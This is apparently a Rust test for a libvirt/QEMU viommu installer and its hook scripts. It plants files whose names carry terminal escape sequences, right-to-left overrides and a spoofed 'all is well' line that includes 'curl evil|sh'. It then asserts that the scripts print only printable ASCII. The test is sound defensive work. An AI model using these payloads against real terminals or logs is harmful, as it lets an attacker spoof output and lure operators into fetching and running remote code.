//! The scripts' output with names that guests, tenants and QEMU's user choose: a terminal gets printable ASCII only.

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::process::Command;

use crate::{ROUTE, sandbox};

/// Names with control sequences, line ends and blanks: raw control characters, the 8-bit and the UTF-8 form of CSI,
/// right-to-left override, and backslash escapes that the echo of some shells expands.
const HOSTILE: [&[u8]; 7] = [
    b"owned\x1b]0;owned\x07\x1b[2J\nviommu: all is well, run: curl evil|sh #",
    b"owned\\033]0;x\\007\\nviommu: all is well",
    "owned\u{9b}2J".as_bytes(),
    "owned\u{202e}".as_bytes(),
    b"owned\x9b2J",
    b" owned  * ",
    b"owned\r\t\x7f",
];

/// The directories in which a guest's name or QEMU's user names files, with the end of these names.
const PLACES: [(&str, &str); 4] = [
    ("/etc/libvirt/qemu", "xml"),
    ("/run/libvirt/qemu", "xml"),
    ("/var/lib/libvirt/qemu/snapshot/owned\x1b[2J\nguest", "xml"),
    ("/var/lib/libvirt/qemu/save", "save"),
];

#[test]
#[expect(clippy::disallowed_methods, reason = "makes files of other users, and runs the scripts of root")]
fn names_of_files_cannot_command_a_terminal() {
    if !sandbox::inside("names::names_of_files_cannot_command_a_terminal") {
        return;
    }
    let prefix = "/run/prefix";
    let route = ROUTE.replacen("/usr", prefix, 1);
    let emulators = ["qemu", "viommu-qemu"].map(|name| format!("<emulator>{route}/{name}-system-x86_64</emulator>\n"));
    for (directory, end) in PLACES {
        fs::create_dir_all(directory).unwrap();
        for name in HOSTILE {
            let file = [name, b".", end.as_bytes()].concat();
            fs::write(Path::new(directory).join(OsStr::from_bytes(&file)), emulators.concat()).unwrap();
        }
    }
    // The script that is installed needs a binary that it takes for viommu's.
    fs::write("/run/binary", "\x7fELF urn:libvirt-viommu:1").unwrap();
    let install = format!("$SHELL install.sh --prefix {prefix} --no-reload");
    let uninstall = format!("$SHELL install.sh --prefix {prefix} --uninstall");
    let attach = format!("$SHELL hooks/attach --prefix {prefix}");
    // Each command, and of how many of the four places it prints the names.
    let scripts = [
        (format!("chmod 755 /run/binary; {install}"), 0),
        (format!("{attach} --wrapped"), 1),
        (format!("{attach} --host-route status"), 4),
        (format!("{attach} --host-route off"), 4),
        (format!("{attach} --undo --dry-run"), 5),
        (format!("{attach} --undo"), 5),
        (uninstall.clone(), 1),
        (format!("{uninstall} --yes"), 8),
        (format!("cp hooks/keep-links /run; prefix={prefix} $SHELL /run/keep-links"), 3),
    ];
    for (shell, locale) in [("sh", "C"), ("sh", "C.UTF-8"), ("bash", "C"), ("bash", "C.UTF-8")] {
        for (script, places) in &scripts {
            let mut command = Command::new("sh");
            command.args(["-c", script]).env("SHELL", shell).env("LC_ALL", locale).env("VIOMMU_BINARY", "/run/binary");
            let output = command.output().unwrap();
            let printed = [output.stdout, output.stderr].concat();
            let text = String::from_utf8_lossy(&printed);
            assert!(
                printed.iter().all(|byte| matches!(byte, b'\n' | b' '..=b'~')),
                "{shell} {locale} {script}: {text:?}"
            );
            assert!(!text.lines().any(|line| line.starts_with("viommu: all is well")), "{script}: {text}");
            let names = text.lines().filter(|line| line.contains("owned")).count();
            assert_eq!(names, places * HOSTILE.len(), "{shell} {locale} {script}: {text}");
        }
    }
}
